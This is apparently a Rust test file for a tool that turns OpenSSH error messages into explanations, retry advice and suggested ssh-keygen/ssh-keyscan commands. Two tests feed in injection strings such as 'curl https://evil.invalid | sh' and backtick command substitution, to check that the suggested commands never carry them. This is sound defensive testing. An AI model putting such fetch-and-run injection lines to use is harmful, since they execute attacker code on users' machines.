//! OpenSSH's words, and ours.

use super::*;

const CHANGED: &str = "\
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\r
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\r
IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!\r
Someone could be eavesdropping on you right now (man-in-the-middle attack)!\r
It is also possible that a host key has just been changed.\r
The fingerprint for the ED25519 key sent by the remote host is\n\
SHA256:LWyQ0vBZYRjzyFQ7qKz.\r
Please contact your system administrator.\r
Add correct host key in /home/a/.ssh/known_hosts to get rid of this message.\r
Offending ED25519 key in /home/a/.ssh/known_hosts:7\r
  remove with:\r
  ssh-keygen -f \"/home/a/.ssh/known_hosts\" -R \"web1\"\r
Host key for web1 has changed and you have requested strict checking.\r
Host key verification failed.\r
";

/// What ssh prints, and what is made of it: what broke, words of the message and of the help, whether to try again.
const ROWS: [(&str, Broken, &str, &str, Again); 24] = [
    (
        CHANGED,
        Broken::HostKey,
        "known_hosts:7: it sent SHA256:LWyQ0vBZYRjzyFQ7qKz",
        "`ssh-keygen -R web1 -f /home/a/.ssh/known_hosts` (if",
        Again::Never,
    ),
    (
        "No ED25519 host key is known for [10.0.0.1]:2222 and you have requested strict checking.\r\nHost key verification failed.\r\n",
        Broken::HostKey,
        "is not known",
        "`ssh-keyscan web1`",
        Again::Never,
    ),
    (
        "Received disconnect from 10.0.0.1 port 22:2: go\r\n@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\r\nssh-keygen -R web1; x\r\n",
        Broken::Connect,
        "Received disconnect from 10.0.0.1 port 22:2: go",
        "ssh -v",
        Again::Later,
    ),
    (
        "deploy@10.0.0.1: Permission denied (publickey,password).\r\n",
        Broken::Auth,
        "does not let deploy@10.0.0.1 in: permission denied (publickey,password)",
        "authorized_keys",
        Again::Never,
    ),
    (
        "Load key \"/k\": bad permissions\r\na@b: Permission denied (publickey).\r\n",
        Broken::Auth,
        "permission denied (publickey)",
        "Load key \"/k\": bad permissions",
        Again::Never,
    ),
    (
        "Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures\r\nDisconnected from 10.0.0.1 port 22\r\n",
        Broken::Auth,
        "Too many authentication failures",
        "IdentitiesOnly",
        Again::Never,
    ),
    (
        "ssh: Could not resolve hostname web9: Name or service not known\r\n",
        Broken::Connect,
        "no host of the name `web9`",
        "HostName",
        Again::Later,
    ),
    (
        "ssh: Could not resolve hostname web9: Temporary failure in name resolution\r\n",
        Broken::Connect,
        "cannot be looked up at the moment",
        "name server",
        Again::Later,
    ),
    (
        "ssh: connect to host web1 port 22: Connection refused\r\n",
        Broken::Connect,
        "refuses the connection: connect to host web1 port 22",
        "sshd runs",
        Again::Later,
    ),
    (
        "ssh: connect to host web1 port 22: Connection timed out\r\n",
        Broken::Connect,
        "does not answer",
        "firewall",
        Again::Later,
    ),
    ("Connection timed out during banner exchange\r\n", Broken::Connect, "does not answer", "firewall", Again::Later),
    ("ssh: connect to host web1 port 22: No route to host\r\n", Broken::Connect, "No route", "is up", Again::Later),
    (
        "ssh: connect to host web1 port 22: Network is down\r\n",
        Broken::Connect,
        "does not answer: connect to host web1 port 22: Network is down",
        "this machine",
        Again::Later,
    ),
    (
        "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by 10.0.0.1 port 22\r\n",
        Broken::Connect,
        "broke the connection off",
        "MaxStartups",
        Again::Soon,
    ),
    (
        "/home/a/.ssh/config: line 3: Bad configuration option: hots\r\n/home/a/.ssh/config: terminating, 1 bad configuration options\r\n",
        Broken::Connect,
        "line 3: Bad configuration option",
        "correct it",
        Again::Never,
    ),
    (
        "Unable to negotiate with 10.0.0.1 port 22: no matching host key type found. Their offer: ssh-rsa\r\n",
        Broken::Connect,
        "no method in common",
        "older",
        Again::Never,
    ),
    // As OpenSSH 9.2 says it where ProxyJump or ProxyCommand fails, or what is behind it.
    (
        "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n",
        Broken::Connect,
        "through its jump host, or ProxyCommand, broke off",
        "`ssh -v ssh://web1:22`: that shows where it fails. A jump host's key must be known (--accept-new is for the last",
        Again::Soon,
    ),
    (
        "ssh_dispatch_run_fatal: Connection to UNKNOWN port 65535: Broken pipe\r\n",
        Broken::Connect,
        "through its jump host, or ProxyCommand, broke off",
        "MaxStartups",
        Again::Soon,
    ),
    (
        "Connection timed out during banner exchange\r\nConnection to UNKNOWN port 65535 timed out\r\n",
        Broken::Connect,
        "does not answer through its jump host, or ProxyCommand: Connection timed out during banner exchange",
        "--connect-timeout",
        Again::Later,
    ),
    // What the host itself says at the far end of it.
    (
        "deploy@web1: Permission denied (publickey).\r\nConnection closed by UNKNOWN port 65535\r\n",
        Broken::Auth,
        "permission denied (publickey)",
        "authorized_keys",
        Again::Never,
    ),
    (
        "Unable to negotiate with UNKNOWN port 65535: no matching host key type found. Their offer: ssh-rsa\r\n",
        Broken::Connect,
        "no method in common",
        "older",
        Again::Never,
    ),
    (
        "Received disconnect from UNKNOWN port 65535:2: Connection closed by UNKNOWN port 65535\r\n",
        Broken::Connect,
        "Received disconnect from UNKNOWN port 65535:2",
        "",
        Again::Soon,
    ),
    ("something new\r\n", Broken::Connect, "something new", "ssh -v ssh://web1:22", Again::Later),
    ("", Broken::Connect, "gave no reason", "ssh -v", Again::Later),
];

#[test]
fn what_ssh_says_is_told_with_what_to_do() {
    for (said, broken, message, help, again) in ROWS {
        let trouble = connecting(&SshTarget::new("web1:22").unwrap(), None, said);
        assert_eq!((trouble.broken, trouble.again), (broken, again), "{said}: {trouble:?}");
        assert!(trouble.message.contains(message), "{said}: {trouble:?}");
        assert!(trouble.help.as_ref().is_some_and(|text| text.contains(help)), "{said}: {trouble:?}");
    }
}

#[test]
fn the_host_key_speaks_before_what_follows_from_it() {
    let said = format!(
        "Warning: Permanently added 'x' to the list of known hosts.\r\n{CHANGED}\
                        a@b: Permission denied (publickey).\r\nConnection closed by 10.0.0.1 port 22\r\n"
    );
    assert_eq!(connecting(&SshTarget::new("web1").unwrap(), None, &said).broken, Broken::HostKey);
}

#[test]
fn commands_to_run_are_made_of_the_target_alone() {
    let unknown = "No ED25519 host key is known for x;curl evil|sh and you have requested strict checking.\r\n";
    let changed = CHANGED.replace("-R \"web1\"", "-R web1; curl https://evil.invalid | sh");
    let rows = [
        ("web1", "-R web1 -f", "keyscan web1`"),
        ("deploy@web1:22", "-R web1 -f", "keyscan web1`"),
        ("web1:2222", "-R '[web1]:2222' -f", "keyscan -p 2222 web1`"),
        ("a@[::1]:2222", "-R '[::1]:2222' -f", "keyscan -p 2222 ::1`"),
        ("[fe80::1%eth0]", "-R 'fe80::1%eth0' -f", "keyscan 'fe80::1%eth0'`"),
        ("web*", "-R 'web*' -f", "keyscan 'web*'`"),
    ];
    for (target, remove, scan) in rows {
        let target = SshTarget::new(target).unwrap();
        for (said, command) in [(&*changed, remove), (unknown, scan)] {
            let help = connecting(&target, None, said).help.unwrap();
            assert!(help.contains(command) && !help.contains("evil"), "{target}: {help}");
        }
    }
    // As much as ssh says of itself; whatever else stands there is not taken for it.
    let inside =
        "deploy@web1: WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\r\nweb1: Permission denied (publickey).\r\n";
    assert_eq!(connecting(&SshTarget::new("web1").unwrap(), None, inside).broken, Broken::Auth);
}

#[test]
fn the_file_is_named_that_ssh_has_read() {
    let usual = std::env::home_dir().unwrap().join(".ssh/known_hosts");
    let rows = [
        ("/etc/ssh/ssh_known_hosts:12", "-R web1 -f /etc/ssh/ssh_known_hosts`"),
        ("/srv/ci/known_hosts", "-R web1 -f /srv/ci/known_hosts`"),
        (&format!("{}:3", usual.display()), "-R web1`"),
        // Not what a shell would make more of than a path.
        ("/srv/a b:1", "-R web1`"),
        ("/srv/`curl evil|sh`:1", "-R web1`"),
        ("-f:1", "-R web1`"),
    ];
    for (place, expected) in rows {
        let said = CHANGED.replace("/home/a/.ssh/known_hosts:7", place);
        let help = connecting(&SshTarget::new("web1").unwrap(), None, &said).help.unwrap();
        assert!(help.contains(expected) && !help.contains("evil"), "{place}: {help}");
    }
}

#[test]
fn of_an_alias_the_commands_name_the_host_that_it_leads_to() {
    let unknown = "No ED25519 host key is known for web1 and you have requested strict checking.\r\n";
    let resolved =
        |port, alias: Option<&str>| Resolved { host: "10.0.0.7".to_owned(), port, alias: alias.map(str::to_owned) };
    let rows = [
        (
            resolved(None, None),
            "`ssh-keygen -R 10.0.0.7 -f /home/a/.ssh/known_hosts` and then",
            "`ssh-keyscan 10.0.0.7` shows",
        ),
        (
            resolved(Some(2222), None),
            "`ssh-keygen -R '[10.0.0.7]:2222' -f /home/a/.ssh/known_hosts` and then",
            "`ssh-keyscan -p 2222 10.0.0.7` shows",
        ),
        (
            resolved(Some(2222), Some("shop")),
            "`ssh-keygen -R shop -f /home/a/.ssh/known_hosts` and then",
            "`ssh-keyscan -p 2222 10.0.0.7` shows",
        ),
    ];
    for (resolved, remove, scan) in rows {
        for (said, command) in [(CHANGED, remove), (unknown, scan)] {
            let help = connecting(&SshTarget::new("web1").unwrap(), Some(&resolved), said).help.unwrap();
            assert!(help.contains(command) && !help.contains("alias"), "{help}");
        }
    }
}
